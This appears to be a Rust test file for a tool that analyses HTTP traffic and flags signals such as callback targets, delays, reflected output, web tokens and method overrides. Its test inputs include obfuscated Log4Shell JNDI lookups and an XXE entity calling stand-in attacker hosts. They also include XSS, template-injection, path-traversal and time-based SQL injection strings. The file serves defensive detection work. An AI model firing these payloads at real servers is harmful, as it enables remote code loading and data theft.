//! What a transaction shows beside its parameters: targets and delays of payloads, results, web tokens, overrides.

use model::contact::{Target, tag};
use model::flow::mapped;
use model::payload::by_number;
use model::{ParamPlace, SignalKind};

use super::Call;

/// Values of the signals of that kind, with their names.
fn signals(call: &Call<'_>, kind: SignalKind) -> Vec<(String, u64)> {
    let batch = call.batch();
    let seen = batch.get(0).unwrap();
    let of = seen.signals().iter().filter(|signal| signal.kind == kind);
    of.map(|signal| (String::from_utf8_lossy(seen.text(signal.name)).into_owned(), signal.value)).collect()
}

fn targets(call: &Call<'_>) -> Vec<(Option<u64>, u16)> {
    let values = signals(call, SignalKind::Target).into_iter().map(|(_, value)| Target::unpacked(value));
    values.map(|target| (target.addr, target.port)).collect()
}

#[test]
fn a_payload_tells_whom_the_server_shall_call_and_never_by_name() {
    let evil = Some(tag(&mapped([198, 51, 100, 9])));
    let nested = b"X-Trace: ${${::-j}${::-n}di:${lower:L}dap://198.51.100.9:1389/a}";
    assert_eq!(targets(&Call { head: nested, ..Call::default() }), [(evil, 1389)]);
    let named = Call { target: b"/?q=%24%7Bjndi%3Aldap%3A%2F%2Fa.evil.example%2Fz%7D", ..Call::default() };
    assert_eq!(targets(&named)[0], (None, 389));
    let batch = named.batch();
    assert!(!batch.text.windows(4).any(|four| four == b"evil"));
    let body = br#"{"url":"http://10.0.0.7:9200/_search"}"#;
    let json = b"Content-Type: application/json";
    let inside = Call { method: "POST", head: json, body, ..Call::default() };
    assert_eq!(targets(&inside), [(Some(tag(&mapped([10, 0, 0, 7]))), 9200)]);
    let document =
        br#"<!DOCTYPE a [<!ENTITY x SYSTEM "http://198.51.100.9:81/x">]><a xmlns="http://b.example/">&x;</a>"#;
    let xml = Call { method: "POST", head: b"Content-Type: application/xml", body: document, ..Call::default() };
    assert_eq!(targets(&xml), [(evil, 81)]);
    assert!(targets(&Call { target: b"/?next=https://shop.example/", ..Call::default() }).is_empty());
}

#[test]
fn what_an_answer_shows_of_what_was_asked_for() {
    let proofs = |target: &[u8], kind: &[u8], answer: &[u8]| {
        let call = Call { target, answer_head: kind, answer, ..Call::default() };
        let shown = signals(&call, SignalKind::Proof).into_iter();
        shown.map(|(_, number)| by_number(number).unwrap().name).collect::<Vec<_>>()
    };
    let (html, json) = (&b"Content-Type: text/html; charset=utf-8"[..], &b"Content-Type: application/json"[..]);
    let script = b"/?q=%3Cscript%3Ealert(1)%3C/script%3E";
    assert_eq!(proofs(script, html, b"<p><script>alert(1)</script>"), ["script-reflected"]);
    assert!(proofs(script, json, b"\"<script>alert(1)</script>\"").is_empty());
    assert!(proofs(script, html, b"<p>&lt;script&gt;alert(1)&lt;/script&gt;").is_empty());
    assert_eq!(proofs(b"/?name=$%7B1337*191%7D", json, br#"{"hello":"255367"}"#), ["template-result"]);
    assert!(proofs(b"/?name=$%7B1337*191%7D", json, br#"{"hello":"${1337*191}"}"#).is_empty());
    assert_eq!(proofs(b"/?f=../../windows/win.ini", json, b"; for 16-bit app support\r\n[fonts]"), ["passwd-content"]);
    let sleeps = Call { target: b"/?id=1'+and+sleep(7)%23", ..Call::default() };
    assert_eq!(signals(&sleeps, SignalKind::Delay), [(String::new(), 7_000)]);
    assert!(signals(&Call { target: b"/?id=7", ..Call::default() }, SignalKind::Delay).is_empty());
}

/// A token with `{"typ":"JWT","alg":"HS256"}`, those claims, and a signature as long as it should be.
fn token(claims: &str) -> String {
    let claims = claims.bytes().map(|byte| format!("{byte:08b}")).collect::<Vec<_>>().concat();
    let letter = |six: &[u8]| {
        const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let six = format!("{:0<6}", String::from_utf8_lossy(six));
        LETTERS[usize::from_str_radix(&six, 2).unwrap()] as char
    };
    let claims: String = claims.as_bytes().chunks(6).map(letter).collect();
    format!("eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.{claims}.{}", "s".repeat(43))
}

#[test]
fn web_tokens_handed_out_and_shown_have_the_shape_of_their_maker() {
    let json = b"Content-Type: application/json";
    let made = |token: &str| {
        let answer = format!(r#"{{"data":{{"login":{{"accessToken":"{token}"}}}}}}"#);
        let call = Call {
            method: "POST",
            answer_head: json,
            answer: answer.as_bytes(),
            target: b"/graphql",
            ..Call::default()
        };
        signals(&call, SignalKind::TokenMade)
    };
    let shown = |token: &str| {
        let body =
            format!(r#"{{"query":"query me($t: String) {{ me(token: $t) {{ id }} }}","variables":{{"t":"{token}"}}}}"#);
        let call = Call { method: "POST", head: json, body: body.as_bytes(), target: b"/graphql", ..Call::default() };
        signals(&call, SignalKind::TokenShown)
    };
    let own = r#"{"sub":"ann","jti":"1","exp":9}"#;
    let (made, same) = (made(&token(own)), shown(&token(r#"{"exp":8,"sub":"bob","jti":"2"}"#)));
    assert_eq!((made.len(), same.len()), (1, 1));
    assert_eq!(made[0].1, same[0].1);
    assert_ne!(made[0].1, shown(&token(r#"{"sub":"admin","exp":9}"#))[0].1);
    let read = Call { answer_head: json, answer: b"{}", ..Call::default() };
    assert!(signals(&read, SignalKind::TokenMade).is_empty());
}

#[test]
fn a_call_that_asks_to_be_taken_for_another_method_says_so() {
    let overrides = |method, target: &'static [u8], head: &'static [u8], body: &'static [u8]| {
        let call = Call { method, target, head, body, ..Call::default() };
        let batch = call.batch();
        let seen = batch.get(0).unwrap();
        let place =
            |signal: &model::Signal| (signal.place, String::from_utf8_lossy(seen.text(signal.name)).into_owned());
        let all = seen.signals().iter().filter(|signal| signal.kind == SignalKind::Override);
        all.map(place).collect::<Vec<_>>()
    };
    let delete = || "DELETE".to_owned();
    for head in [&b"X-HTTP-Method-Override: delete"[..], b"X-Method-Override: DELETE", b"X-HTTP-Method: DELETE"] {
        assert_eq!(overrides("POST", b"/", head, b""), [(ParamPlace::Header, delete())]);
    }
    assert_eq!(overrides("POST", b"/?_method=DELETE", b"", b""), [(ParamPlace::Query, delete())]);
    let form = b"Content-Type: application/x-www-form-urlencoded";
    assert_eq!(overrides("POST", b"/", form, b"_method=delete&a=1"), [(ParamPlace::Form, delete())]);
    assert!(overrides("POST", b"/", b"X-HTTP-Method-Override: POST", b"").is_empty(), "the method it has");
    assert!(overrides("POST", b"/?pay_method=card", b"", b"").is_empty());
}

#[test]
fn secrets_are_codes_in_paths_and_answers_where_the_path_speaks_of_access() {
    let secrets = |method, target: &[u8], body: &[u8]| {
        let call = Call { method, target, head: b"Content-Type: application/json", body, ..Call::default() };
        signals(&call, SignalKind::Secret)
    };
    let of_path = |target: &[u8]| secrets("PUT", target, b"");
    let coupon = of_path(b"/basket/7/coupon/SUMMER-26");
    assert_eq!(coupon[0].0, "coupon");
    assert_eq!(coupon, of_path(b"/basket/8/coupon/SUMMER%2D26"));
    assert_ne!(coupon, of_path(b"/basket/7/coupon/SUMMER-27"));
    assert!(of_path(b"/basket/7/coupon").is_empty() && of_path(b"/products/SUMMER-26").is_empty());
    let answer = br#"{"email":"jane@shop.example","answer":"Rex"}"#;
    assert_eq!(secrets("POST", b"/user/reset-password", answer).len(), 1);
    assert!(secrets("POST", b"/quiz/7", answer).is_empty());
    assert_eq!(secrets("POST", b"/verify", br#"{"tmpToken":"a","totpToken":"123456"}"#).len(), 1);
}

#[test]
fn a_program_that_asks_for_somebody_s_token_is_not_the_account() {
    let json = b"Content-Type: application/json";
    let accounts = |body: &[u8]| {
        let call = Call { method: "POST", target: b"/oauth/token", head: json, body, ..Call::default() };
        let count = |kind| signals(&call, kind).len();
        (count(SignalKind::Account), count(SignalKind::Refresh))
    };
    let refresh =
        br#"{"grant_type":"refresh_token","refresh_token":"6f1ed002ab5595859014ebf0951522d9","client_id":"app_9f"}"#;
    assert_eq!(accounts(refresh), (0, 1));
    assert_eq!(accounts(br#"{"client_id":"app_9f","username":"ann","password":"p"}"#), (1, 0));
    assert_eq!(accounts(br#"{"grant_type":"client_credentials","client_id":"rota","client_secret":"s"}"#), (1, 0));
    assert_eq!(accounts(br#"{"client_id":"app_9f","code":"k","client_secret":"s"}"#), (0, 0));
}

#[test]
fn a_number_beside_a_pin_is_the_account_and_beside_a_coupon_none() {
    let json = b"Content-Type: application/json";
    let accounts = |body: &[u8]| {
        let call = Call { method: "POST", target: b"/kiosk/login", head: json, body, ..Call::default() };
        signals(&call, SignalKind::Account)
    };
    let [one, other] =
        [&br#"{"company":"merrow","employeeNo":117,"pin":"9018"}"#[..], br#"{"employeeNo":118,"pin":"9018"}"#]
            .map(accounts);
    assert_eq!((one.len(), other.len()), (1, 1));
    assert_ne!(one, other);
    let at_one_terminal =
        |number| accounts(format!(r#"{{"terminalId":7,"employeeNo":{number},"pin":"9018"}}"#).as_bytes());
    assert_ne!(at_one_terminal(117), at_one_terminal(118));
    assert!(accounts(br#"{"basketId":117,"coupon":"9018"}"#).is_empty());
    assert!(accounts(br#"{"storeId":1,"pin":"9018"}"#).is_empty(), "the PIN tells who it is");
    assert_eq!(accounts(br#"{"user":"ann","employeeNo":117,"pin":"9018"}"#).len(), 1);
}
